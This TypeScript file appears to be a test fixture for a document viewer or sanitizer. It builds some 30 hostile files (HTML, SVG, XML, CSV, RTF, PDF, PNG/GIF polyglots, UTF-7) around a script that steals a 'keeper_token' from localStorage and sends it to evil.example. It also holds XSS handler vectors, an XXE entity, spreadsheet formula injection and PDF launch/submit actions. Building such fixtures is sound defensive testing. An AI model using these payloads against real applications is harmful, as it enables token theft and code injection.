export interface HostileDocument {
  name: string
  type: string
  bytes: Buffer
}

const evilOrigin = 'https://evil.example'
const steal = `(()=>{const h=[self,self.top,self.parent,self.opener].map(w=>{try{return w&&w.gateHears}catch{}}).find(Boolean)||(()=>{});h('ran '+location.protocol);let t;try{t=localStorage.getItem('keeper_token')||''}catch{t=''}try{t=t||top.localStorage.getItem('keeper_token')||''}catch{}try{t=t||opener.localStorage.getItem('keeper_token')||''}catch{}if(t){h('token '+t);try{indexedDB.databases().then(d=>h('databases '+d.map(x=>x.name)))}catch{}try{fetch('${evilOrigin}/?f='+t)}catch{}try{new Image().src='${evilOrigin}/?i='+t}catch{}try{navigator.sendBeacon('${evilOrigin}/?b='+t)}catch{}try{new WebSocket('wss://evil.example/?w='+t)}catch{}}})()`
const quoted = steal.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
const cdata = `<![CDATA[${steal}]]>`
const remote = `<img src="${evilOrigin}/i.png"><link rel=stylesheet href="${evilOrigin}/s.css"><link rel=prefetch href="${evilOrigin}/p"><style>@import "${evilOrigin}/a.css";*{background:url(${evilOrigin}/u.png)}</style><video src="${evilOrigin}/v" autoplay></video><iframe src="${evilOrigin}/f"></iframe><object data="${evilOrigin}/o"></object><embed src="${evilOrigin}/e">`
const svg = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80" ${attributes}>${inner}</svg>`
const html = (inner: string) =>
  `<!doctype html><html><head><title>Harmless</title></head><body><p>harmless words</p>${inner}</body></html>`

const pdf = (catalog: string, page = '') =>
  `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${page}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
const inPdf = `app.launchURL\\("${evilOrigin}/js"\\);this.submitForm\\("${evilOrigin}/form"\\);`
const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<<${action}>>>>]`

function png(text: string): Buffer {
  const point = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  )
  const body = Buffer.concat([Buffer.from('tEXt'), Buffer.from(`Comment\0${text}`)])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(body.length - 4)
  // The chunk's checksum is wrong, which readers ignore.
  return Buffer.concat([point.subarray(0, 33), length, body, Buffer.alloc(4), point.subarray(33)])
}

const texts: [name: string, type: string, text: string][] = [
  ['script.html', 'text/html', html(`<script>${steal}</script>`)],
  [
    'handlers.html',
    'text/html',
    html(`<img src=x onerror="${quoted}"><body onload="${quoted}"><svg onload="${quoted}"></svg>`),
  ],
  ['remote.html', 'text/html', html(remote)],
  [
    'frames.html',
    'text/html',
    html(`<iframe srcdoc="<script>${quoted}</script>"></iframe><iframe src="javascript:${quoted}"></iframe>`),
  ],
  [
    'refresh.html',
    'text/html',
    html(
      `<meta http-equiv=refresh content="0;url=${evilOrigin}/?r"><base href="${evilOrigin}/"><a href=/x autofocus>x</a>`,
    ),
  ],
  [
    'form.html',
    'text/html',
    html(
      `<form id=f action="${evilOrigin}/form"><input name=t value=1><button autofocus>Sign in again</button></form><script>f.submit()</script>`,
    ),
  ],
  [
    'worker.html',
    'text/html',
    html(
      `<script>new Worker(URL.createObjectURL(new Blob([${JSON.stringify(steal)}])));navigator.serviceWorker.register('/sw.js')</script>`,
    ),
  ],
  [
    'policy.html',
    'text/html',
    html(`<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>${steal}</script>`),
  ],
  [
    'module.html',
    'text/html',
    html(`<script type=module>${steal}</script><script type=importmap>{"imports":{"a":"${evilOrigin}/m.js"}}</script>`),
  ],
  [
    'page.xhtml',
    'application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${cdata}</script></body></html>`,
  ],
  ['script.svg', 'image/svg+xml', svg(`<script>${cdata}</script>`)],
  ['onload.svg', 'image/svg+xml', svg('<rect width="9" height="9"/>', `onload="${quoted}"`)],
  [
    'remote.svg',
    'image/svg+xml',
    svg(
      `<image href="${evilOrigin}/i.png" width="9" height="9"/><use href="${evilOrigin}/u.svg#a"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evilOrigin}/f"/></foreignObject>`,
    ),
  ],
  [
    'animate.svg',
    'image/svg+xml',
    svg(
      `<a><animate attributeName="href" values="javascript:${quoted}"/><text y="20">press</text></a><set attributeName="onmouseover" to="${quoted}"/>`,
    ),
  ],
  ['drawing.xml', 'text/xml', svg(`<script>${cdata}</script>`)],
  [
    'sheet.xml',
    'application/xml',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${evilOrigin}/x.xsl"?><!DOCTYPE a [<!ENTITY e SYSTEM "${evilOrigin}/entity">]><a>&e;<script xmlns="http://www.w3.org/1999/xhtml">${cdata}</script></a>`,
  ],
  [
    'notes.md',
    'text/markdown',
    `harmless words\n\n![x](${evilOrigin}/m.png)\n\n[press](javascript:${steal})\n\n<script>${steal}</script>\n\n${remote}`,
  ],
  [
    'table.csv',
    'text/csv',
    `a,b\n=HYPERLINK("${evilOrigin}/csv"),<img src=x onerror="${steal.replaceAll('"', '""')}">\n=WEBSERVICE("${evilOrigin}/w"),@SUM(1)\n`,
  ],
  [
    'letter.rtf',
    'application/rtf',
    `{\\rtf1 harmless {\\field{\\*\\fldinst INCLUDEPICTURE "${evilOrigin}/rtf.png"}}{\\object\\objautlink\\objupdate{\\*\\objdata 01}}<script>${steal}</script>}`,
  ],
  [
    'data.json',
    'application/json',
    JSON.stringify({ ['__proto__']: `<script>${steal}</script>`, html: `</script><script>${steal}</script>` }),
  ],
  ['words.txt', 'text/plain', html(`<script>${steal}</script>`)],
  ['program.js', 'text/javascript', steal],
  ['sheet.css', 'text/css', `@import "${evilOrigin}/css";*{background:url(${evilOrigin}/c.png)}`],
  [
    'javascript.pdf',
    'application/pdf',
    pdf(`/OpenAction<</S/JavaScript/JS(${inPdf})>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(${inPdf})>>]>>>>`),
  ],
  [
    'links.pdf',
    'application/pdf',
    pdf('/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>', link(`/S/URI/URI(${evilOrigin}/uri)`)),
  ],
  [
    'launch.pdf',
    'application/pdf',
    pdf(`/OpenAction<</S/Launch/F(${evilOrigin}/launch)>>`, link('/S/Launch/F(cmd.exe)')),
  ],
  ['submit.pdf', 'application/pdf', pdf('/AcroForm<</Fields[]>>', link(`/S/SubmitForm/F(${evilOrigin}/submit)`))],
  ['page-in.pdf', 'application/pdf', `%PDF-1.4\n${html(`<script>${steal}</script>`)}`],
]

export const hostileDocuments: readonly HostileDocument[] = [
  ...texts.map(([name, type, text]) => ({ name, type, bytes: Buffer.from(text) })),
  { name: 'metadata.png', type: 'image/png', bytes: png(html(`<script>${steal}</script>`)) },
  { name: 'picture.png', type: 'text/html', bytes: png(html(`<script>${steal}</script>`)) },
  { name: 'gif-and-script.gif', type: 'image/gif', bytes: Buffer.from(`GIF89a/*\x01\x00\x01\x00*/=1;${steal}//;`) },
  {
    name: 'utf-7.html',
    type: 'text/html',
    bytes: Buffer.from(`<meta charset=utf-7>+ADw-script+AD4-${steal}+ADw-/script+AD4-`),
  },
  {
    name: 'utf-16.html',
    type: 'text/html',
    bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<script>${steal}</script>`, 'utf16le')]),
  },
]
